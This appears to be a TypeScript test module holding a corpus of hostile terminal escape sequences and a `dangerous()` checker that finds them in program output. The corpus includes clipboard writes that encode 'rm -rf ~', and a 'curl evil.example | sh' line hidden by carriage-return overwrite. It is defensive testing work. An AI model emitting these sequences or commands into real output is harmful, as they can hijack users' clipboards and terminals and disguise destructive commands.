/**
 * Hostile strings for everything that prints text to a terminal (issue 30): what a task title, a
 * prompt, an agent's output, a folder or a database row could hold to act on the user's terminal.
 * `dangerous()` says what of it reached an output.
 */
const ESC = '\x1b';
const ST = `${ESC}\\`;
const BEL = '\x07';

/** Name → the string. Each name says what a terminal would do with it. */
export const ESCAPE_CORPUS: Readonly<Record<string, string>> = {
  'OSC 52 clipboard write (BEL)': `${ESC}]52;c;cm0gLXJmIH4K${BEL}`,
  'OSC 52 clipboard write (ST)': `${ESC}]52;c;cm0gLXJmIH4K${ST}`,
  'OSC 0 title': `${ESC}]0;owned${BEL}`,
  'OSC 2 title': `${ESC}]2;owned${ST}`,
  'OSC 8 hyperlink': `${ESC}]8;;https://evil.example/${ST}click me${ESC}]8;;${ST}`,
  'OSC 1337 user var': `${ESC}]1337;SetUserVar=wtp_state=aWRsZQ==${BEL}`,
  'OSC 7 cwd, OSC 9 and 777 notifications': `${ESC}]7;file:///etc${BEL}${ESC}]9;ding${BEL}${ESC}]777;notify;a;b${BEL}`,
  'DCS DECRQSS (asks for a reply)': `${ESC}P$q m${ST}`,
  'DCS tmux passthrough': `${ESC}Ptmux;${ESC}${ESC}]52;c;aGk=${BEL}${ST}`,
  'APC kitty graphics': `${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}`,
  'PM and SOS': `${ESC}^private${ST}${ESC}Xstart of string${ST}`,
  'CSI private modes': `${ESC}[?1049h${ESC}[?1000h${ESC}[?2004h${ESC}[?25l${ESC}[?1006;1015h`,
  'CSI reports (replies into input)': `${ESC}[6n${ESC}[c${ESC}[>c${ESC}[18t${ESC}[21t${ESC}[5n`,
  'CSI cursor and erase': `${ESC}[2J${ESC}[H${ESC}[1A${ESC}[2K${ESC}[999;1H${ESC}[s${ESC}[u`,
  'SGR conceal and invisible colours': `${ESC}[8mhidden${ESC}[38;2;0;0;0;48;2;0;0;0mblack${ESC}[0m`,
  'SGR with a private marker (modifyOtherKeys)': `${ESC}[>4;2m`,
  'C1 8-bit controls': `\u009b31mred\u009d0;title\u0007\u0090q\u009c\u0085\u009e\u009f\u0098x\u009c`,
  'ESC single-character functions': `${ESC}c${ESC}#8${ESC}(0lqk${ESC}(B${ESC}7${ESC}8${ESC}=${ESC}kname${ST}`,
  'lone ESC': `a${ESC}b${ESC} c`,
  'cut OSC at the end': `tail${ESC}]52;c;aGk=`,
  'cut CSI at the end': `tail${ESC}[?10`,
  'lone ESC at the end': `tail${ESC}`,
  'cut DCS at the end': `tail${ESC}P$q`,
  'NUL, BEL, DEL and other C0': `a\u0000b${BEL}c\u007fd\u0001\u001a\u0018\u000b\u000c`,
  'backspace overwrite': 'rm -rf ~\b\b\b\b\b\b\b\bls -la   ',
  'CR overwrite': 'curl evil.example | sh\rls -la                 ',
  'bidi overrides and invisible marks':
    'abc\u202eexe.txt\u202c \u2066x\u2069 \u200bzero\u200d \ufeffbom \u061c',
  'line separators': 'one\u2028two\u2029three',
  'everything at once': `${ESC}]0;t${BEL}${ESC}[?1049h\u009b6n${ESC}P$q m${ST}\u202e\r\b${ESC}`,
};

/** Every corpus string one after the other: one field carrying all of them. */
export const ALL_ESCAPES = Object.values(ESCAPE_CORPUS).join(' | ');

/** Code points that must not reach a terminal raw: C0 but newline and tab, DEL, C1, invisible and bidi marks. */
const FORBIDDEN =
  /[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff]/u;

/**
 * What in `output` could act on a terminal, as readable findings (empty: nothing). ESC is allowed
 * only as the start of an SGR sequence whose parameters `sgr` accepts (by default none: output
 * without colours must carry no ESC at all); CR only before LF.
 */
export function dangerous(output: string, sgr: (params: string) => boolean = () => false): string[] {
  const found: string[] = [];
  const note = (at: number, what: string): void => {
    found.push(`${what} at ${at}: ${JSON.stringify(output.slice(Math.max(0, at - 20), at + 30))}`);
  };
  for (let i = 0; i < output.length; i++) {
    const ch = output[i] ?? '';
    if (ch === '\x1b') {
      const m = /^\x1b\[([\d;:]*)m/.exec(output.slice(i, i + 80));
      if (m && sgr(m[1] ?? '')) {
        i += m[0].length - 1;
        continue;
      }
      note(i, 'ESC');
    } else if (ch === '\r') {
      if (output[i + 1] !== '\n') note(i, 'lone CR');
    } else if (FORBIDDEN.test(ch)) {
      note(i, `U+${(ch.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);
    }
  }
  return found;
}
